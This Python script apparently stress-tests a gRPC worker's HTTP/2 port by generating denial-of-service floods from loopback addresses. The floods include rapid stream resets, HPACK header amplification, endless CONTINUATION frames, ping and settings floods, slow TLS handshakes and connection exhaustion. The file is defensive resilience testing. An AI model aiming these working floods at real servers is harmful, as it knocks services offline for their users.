"""What strangers send to a worker's port to wear it out; written frame by frame, since no client would.

    python floods.py KIND HOST PORT SECONDS

runs one of ``FLOODS`` from addresses of this machine of its own and prints, as JSON, what it came to.
"""

from __future__ import annotations

import json
import socket
import ssl
import sys
import threading
import time
from contextlib import suppress
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

SOURCES = [f"127.0.0.{n}" for n in range(2, 6)] if sys.platform == "linux" else ["127.0.0.1"]
"""Loopback addresses that are not the honest clients'."""

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


HELLO = PREFACE + frame(SETTINGS)


def text(value: bytes) -> bytes:
    """A string of HPACK, not compressed."""
    length = len(value)
    if length < 127:
        return bytes([length]) + value
    rest, number = length - 127, b"\x7f"
    while rest >= 128:
        number += bytes([rest % 128 + 128])
        rest //= 128
    return number + bytes([rest]) + value


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def request(path: bytes = b"/sllm.v1.Worker/Info", *more: bytes) -> bytes:
    """The header block of a call without a token."""
    return b"".join(
        [
            b"\x83\x87",  # POST, https
            b"\x04" + text(path),
            b"\x01" + text(b"sllm-worker"),
            literal(b"content-type", b"application/grpc"),
            literal(b"te", b"trailers"),
            *more,
        ]
    )


def blocks(stream: int, block: bytes, flags: int = 0) -> bytes:
    """A header block in frames of 16 KB."""
    first, *rest = (block[at : at + 16384] for at in range(0, len(block), 16384))
    if not rest:
        return frame(HEADERS, END_HEADERS | flags, stream, first)
    *middle, last = rest
    return b"".join(
        [
            frame(HEADERS, flags, stream, first),
            *(frame(CONTINUATION, 0, stream, piece) for piece in middle),
            frame(CONTINUATION, END_HEADERS, stream, last),
        ]
    )


# ---- what goes up one connection, for as long as it stands


def streams() -> Iterator[int]:
    yield from range(1, 1 << 31, 2)


def rapid_resets() -> Iterator[bytes]:
    block = request()
    cancel = (8).to_bytes(4, "big")
    for n in streams():
        yield blocks(n, block) + frame(RST_STREAM, 0, n, cancel)


def large_headers() -> Iterator[bytes]:
    block = request(b"/a/B", literal(b"x-filler", b"f" * 15_000))
    for n in streams():
        yield blocks(n, block)


def hpack_references() -> Iterator[bytes]:
    """A few bytes on the wire that stand for megabytes of headers."""
    yield blocks(1, request(b"/a/B", literal(b"x-large", b"f" * 3900, indexed=True)))
    block = request(b"/a/B") + b"\xbe" * 12_000
    for n in streams():
        yield blocks(n + 2, block)


def endless_headers() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, request())
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x-a", b"f" * 1000))


def settings() -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (65535).to_bytes(4, "big")) * 64


def pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, b"12345678") * 64


def window_updates() -> Iterator[bytes]:
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")) * 64


def junk_frames() -> Iterator[bytes]:
    while True:
        yield (frame(99, 0, 0, b"junk") + frame(PRIORITY, 0, 1, bytes(5))) * 64


def open_calls() -> Iterator[bytes]:
    """Calls that send no message, and end when the worker ends them."""
    for n in streams():
        yield blocks(n, request())


def calls() -> Iterator[bytes]:
    for n in streams():
        yield blocks(n, request()) + frame(DATA, END_STREAM, n, bytes(5))


# ---- floods


class Flood:
    """Runs something on several threads until the time is over; counts what it came to.

    ``stop`` is set when it is.
    """

    def __init__(self, host: str, port: int, seconds: float) -> None:
        self.host, self.port = host, port
        self.until = time.monotonic() + seconds
        self.lock = threading.Lock()
        self.counts = {"connections": 0, "failed": 0, "bytes": 0}

    @property
    def going(self) -> bool:
        return time.monotonic() < self.until

    def count(self, **more: int) -> None:
        with self.lock:
            for name, n in more.items():
                self.counts[name] = self.counts.get(name, 0) + n

    def plain(self, source: str) -> socket.socket:
        made = socket.create_connection((self.host, self.port), 5.0, (source, 0))
        self.count(connections=1)
        return made

    def secure(self, source: str) -> ssl.SSLSocket:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        plain = self.plain(source)
        try:
            return context.wrap_socket(plain)
        except BaseException:
            plain.close()
            raise

    def run(self, work: Callable[[str], None], n_threads: int = 8) -> dict[str, int]:
        def once(source: str) -> None:
            try:
                work(source)
            except OSError:
                self.count(failed=1)
                time.sleep(0.002)

        def again(source: str) -> None:
            while self.going:
                once(source)

        threads = [
            threading.Thread(target=again, args=(SOURCES[n % len(SOURCES)],)) for n in range(n_threads)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return self.counts


def send_frames(flood: Flood, what: Callable[[], Iterator[bytes]]) -> dict[str, int]:
    """Send as much as the worker takes, reading what it answers, on connections that are opened again when it
    closes them.
    """

    def work(source: str) -> None:
        with flood.secure(source) as connection:
            connection.settimeout(0.5)
            connection.sendall(HELLO)
            batch: list[bytes] = []
            size = 0
            for piece in what():
                batch.append(piece)
                size += len(piece)
                if size < 8192:
                    continue
                if not flood.going:
                    return
                with suppress(TimeoutError):
                    connection.sendall(b"".join(batch))
                    flood.count(bytes=size)
                batch, size = [], 0
                connection.settimeout(0.0)
                with suppress(ssl.SSLWantReadError, BlockingIOError):
                    while connection.recv(65536):
                        pass
                connection.settimeout(0.5)

    return flood.run(work)


def frames_of(what: Callable[[], Iterator[bytes]]) -> Callable[[Flood], dict[str, int]]:
    return lambda flood: send_frames(flood, what)


def idle(flood: Flood) -> dict[str, int]:
    """Hold as many connections as there may be, and answer PING on them."""
    n_each = 128

    def work(source: str) -> None:
        held: list[ssl.SSLSocket] = []
        try:
            while flood.going:
                if len(held) < n_each:
                    with suppress(OSError):
                        held.append(flood.secure(source))
                        held[-1].sendall(HELLO)
                        held[-1].settimeout(0.0)
                flood.count(most=max(0, len(held) - flood.counts.get("most", 0)))
                held = [one for one in held if answers(one)]
        finally:
            for one in held:
                one.close()

    return flood.run(work)


def answers(connection: ssl.SSLSocket) -> bool:
    """Whether it still stands, after having answered what PING and SETTINGS came."""
    try:
        data = connection.recv(65536)
        at = 0
        while at + 9 <= len(data):
            size, kind, flags = int.from_bytes(data[at : at + 3], "big"), data[at + 3], data[at + 4]
            if kind in (PING, SETTINGS) and not flags & ACK:
                payload = data[at + 9 : at + 9 + size] if kind == PING else b""
                connection.sendall(frame(kind, ACK, 0, payload))
            at += 9 + size
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return True
    except OSError:
        data = b""
    if not data:
        connection.close()
    return bool(data)


def client_hello() -> bytes:
    """The first flight of a TLS client."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    return outgoing.read()


def slow_handshakes(flood: Flood) -> dict[str, int]:
    """Half a ClientHello, and then a byte a second."""
    hello = client_hello()

    def goes_on(connection: socket.socket, at: int) -> bool:
        try:
            connection.sendall(hello[at : at + 1])
        except OSError:
            connection.close()
            return False
        return True

    def work(source: str) -> None:
        held: list[tuple[socket.socket, int]] = []
        try:
            while flood.going:
                if len(held) < 128:
                    with suppress(OSError):
                        made = flood.plain(source)
                        made.sendall(hello[: len(hello) // 2])
                        held.append((made, len(hello) // 2))
                if len(held) < 128:
                    continue
                time.sleep(1.0)
                held = [(one, at + 1) for one, at in held if goes_on(one, at)]
        finally:
            for one, _ in held:
                one.close()

    return flood.run(work)


def connects(flood: Flood) -> dict[str, int]:
    """Connections that are closed at once."""

    def work(source: str) -> None:
        flood.plain(source).close()

    return flood.run(work)


def handshakes(flood: Flood) -> dict[str, int]:
    """Handshakes, one after the other: the worker signs for each."""

    def work(source: str) -> None:
        flood.secure(source).close()

    return flood.run(work)


def bytes_of_nothing(flood: Flood) -> dict[str, int]:
    """What is no TLS at all."""

    def work(source: str) -> None:
        with flood.plain(source) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\n" + b"x" * 100_000)

    return flood.run(work)


FLOODS: dict[str, Callable[[Flood], dict[str, int]]] = {
    **{
        what.__name__: frames_of(what)
        for what in (
            rapid_resets,
            large_headers,
            hpack_references,
            endless_headers,
            settings,
            pings,
            window_updates,
            junk_frames,
            open_calls,
            calls,
        )
    },
    **{what.__name__: what for what in (idle, slow_handshakes, connects, handshakes, bytes_of_nothing)},
}


def main(kind: str, host: str, port: str, seconds: str) -> Any:
    return FLOODS[kind](Flood(host, int(port), float(seconds)))


if __name__ == "__main__":
    print(json.dumps(main(*sys.argv[1:])))
